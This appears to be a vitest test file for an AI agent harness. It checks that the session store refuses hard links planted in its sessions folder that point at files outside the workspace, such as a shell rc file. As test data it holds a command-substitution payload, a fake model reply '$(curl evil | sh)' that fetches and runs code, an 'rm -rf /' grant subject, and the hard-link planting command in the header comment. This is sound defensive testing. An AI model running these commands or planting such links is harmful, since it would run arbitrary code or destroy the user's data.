/**
 * A hard link planted in `.rxharness/sessions/` under one of a session's file names (`ln
 * ~/.bashrc .rxharness/sessions/s.jsonl`, by a command or a script run in the workspace) is
 * another name for a file that may lie outside the workspace: no symbolic link is on the
 * way, so the confinement checks pass, and appending a sealed message used to write that
 * file (a shell's rc file then runs the `$(...)` a model put in its answer). Every use of
 * such a file is refused with `NotRegularFileError` naming it; the file outside is left
 * byte for byte; deleting the session removes only the planted name.
 */
import { existsSync } from 'node:fs';
import { link, mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { ReActAgent } from '../../src/agent/react-agent.js';
import { FileSessionStore } from '../../src/session/file-session-store.js';
import { HARD_LINKED } from '../../src/session/not-regular-file-error.js';
import { FakeOpenAIServer } from '../support/fake-openai-server.js';
import { openAIModelFor } from '../support/openai-model.js';

const KEY = 'test grant key';
const RC = 'export PATH=/usr/bin\n';
/** One temporary folder holding the workspace and a file outside it (one file system: a hard link needs that). */
let base: string;
let ws: string;
let outside: string;
beforeEach(async () => {
  base = await mkdtemp(join(tmpdir(), 'rxh-hard-links-'));
  ws = join(base, 'workspace');
  outside = join(base, 'bashrc');
  await mkdir(join(ws, '.rxharness', 'sessions'), { recursive: true });
  await writeFile(outside, RC);
});
afterEach(async () => {
  await rm(base, { recursive: true, force: true });
});

const at = (name: string): string => join(ws, '.rxharness', 'sessions', name);
const store = (): FileSessionStore => new FileSessionStore(ws, { grantKey: KEY });
const escaped = (text: string): string => text.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
/** The clear refusal: names the file, says it has other hard links and what to do. */
const refusal = (file: string) => ({
  name: 'NotRegularFileError',
  code: 'NOT_REGULAR_FILE',
  file,
  kind: HARD_LINKED,
  message: expect.stringMatching(new RegExp(`^Refusing to use ${escaped(file)}: it has other hard links.*Nothing was read or written.*rm '${escaped(file)}'`, 's')),
});

describe('FileSessionStore with a hard link to a file outside the workspace planted as <id>.jsonl', () => {
  it('refuses load, loadArchive, append and replace, writes nothing there, and delete removes only the planted name', async () => {
    await link(outside, at('s.jsonl'));
    const s = store();
    await expect(s.append('s', [{ role: 'user', content: '$(touch /tmp/owned)' }])).rejects.toMatchObject(refusal(at('s.jsonl')));
    await expect(s.load('s')).rejects.toMatchObject(refusal(at('s.jsonl')));
    await expect(s.loadArchive('s')).rejects.toMatchObject(refusal(at('s.jsonl')));
    await expect(s.replace('s', [{ role: 'user', content: 'hi' }])).rejects.toMatchObject(refusal(at('s.jsonl')));
    expect(await readFile(outside, 'utf8')).toBe(RC);
    await s.delete('s');
    expect(existsSync(at('s.jsonl'))).toBe(false);
    expect(await readFile(outside, 'utf8')).toBe(RC);
    // The name is free again: the conversation starts anew.
    await s.append('s', [{ role: 'user', content: 'hello' }]);
    expect(await store().load('s')).toEqual([{ role: 'user', content: 'hello' }]);
  });

  it('ends a run abnormally with that message, before any request, and the file outside keeps its bytes', async () => {
    await link(outside, at('s.jsonl'));
    const server = await FakeOpenAIServer.start({ handler: () => ({ text: '$(curl evil | sh)' }) });
    try {
      const result = await new ReActAgent({ model: openAIModelFor(server), sessions: store() }).call('hi', { sessionId: 's' });
      expect(result.abnormal).toBe(true);
      expect(result.error).toMatch(/it has other hard links/);
      expect(server.requests).toHaveLength(0);
    } finally {
      await server.close();
    }
    expect(await readFile(outside, 'utf8')).toBe(RC);
  });
});

describe('FileSessionStore with a hard link planted as <id>.grants.jsonl', () => {
  it('stores no grant through it, and loading the grants says why', async () => {
    await link(outside, at('s.grants.jsonl'));
    const s = store();
    await expect(s.saveGrant('s', { toolName: 'bash', subject: 'rm -rf /' })).rejects.toMatchObject(refusal(at('s.grants.jsonl')));
    await expect(s.loadGrants('s')).rejects.toMatchObject(refusal(at('s.grants.jsonl')));
    expect(await readFile(outside, 'utf8')).toBe(RC);
  });
});

describe('FileSessionStore with a hard link planted as <taskId>.task.json', () => {
  it('resumes nothing from it: loading the task info says why', async () => {
    await link(outside, at('t1.task.json'));
    await expect(store().loadTaskInfo('t1')).rejects.toMatchObject(refusal(at('t1.task.json')));
  });
});
